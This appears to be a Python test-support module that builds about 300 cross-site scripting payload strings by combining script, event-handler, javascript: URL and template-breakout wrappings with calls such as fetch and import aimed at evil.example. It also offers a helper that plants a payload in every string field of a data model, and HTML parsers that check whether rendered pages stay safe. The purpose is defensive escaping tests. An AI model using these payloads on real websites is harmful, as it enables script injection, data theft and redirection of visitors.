"""Strings that would run as a script wherever a page forgot to escape, and ways to put them everywhere."""

from collections.abc import Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from html.parser import HTMLParser
from typing import Any, Final

CALLS: Final = (
    "alert(1)",
    "window.hacked=1",
    "eval('hacked=1')",
    "fetch('//evil.example')",
    "document.title='hacked'",
    "top.hacked=1",
    "import('//evil.example/x.js')",
    "location='//evil.example'",
    "htmx.ajax('GET','//evil.example')",
    "setTimeout('hacked=1')",
)
WRAPPINGS: Final = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "<svg onload={}>",
    "</desc></svg><svg/onload={}>",
    '" onfocus="{}" autofocus="',
    "' onmouseover='{}'",
    "javascript:{}",
    "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<math><mtext></p><script>{}</script>",
    "{{{{ ''.__class__ }}}}<script>{}</script>",
    "{{% raw %}}<script>{}</script>",
    '<div hx-get="//evil.example" hx-trigger="load">{}',
    "<form action=//evil.example><button autofocus>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example>{}",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<object data=javascript:{}>",
    "<style>@import '//evil.example';</style>{}",
    "<!--><script>{}</script>-->",
    "\u202e<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;<img src=x onerror={}>",
)
STRINGS: Final = tuple(wrapping.replace("{}", call) for wrapping in WRAPPINGS for call in CALLS)


def poison(value: Any, text: str) -> Any:  # noqa: ANN401, PLR0911 - any model
    """Put *text* into every string of a model, however deep; words of closed vocabularies stay."""
    if isinstance(value, Enum) or value is None:
        return value
    if isinstance(value, str):
        return text
    if isinstance(value, tuple) and hasattr(value, "_fields"):
        return type(value)(*(poison(each, text) for each in value))
    if isinstance(value, tuple):
        return tuple(poison(each, text) for each in value)
    if isinstance(value, Mapping):
        return {name: poison(each, text) for name, each in value.items()}
    if is_dataclass(value) and not isinstance(value, type):
        return replace(
            value, **{f.name: poison(getattr(value, f.name), text) for f in fields(value) if f.init}
        )
    return value


class Shape(HTMLParser):
    """The elements of a page and the names of their attributes, in order: what a string must not change."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, ...]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, *(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.found.append((f"/{tag}",))


def addresses(page: str) -> Iterator[str]:
    """Yield every address that a page leads to, loads or sends to."""

    class Addresses(HTMLParser):
        def handle_starttag(self, _: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend(value or "" for name, value in attrs if name in LEADING)

    found: list[str] = []
    Addresses().feed(page)
    yield from found


LEADING: Final = frozenset({"href", "src", "action", "formaction", "hx-get", "hx-post", "srcset", "data"})
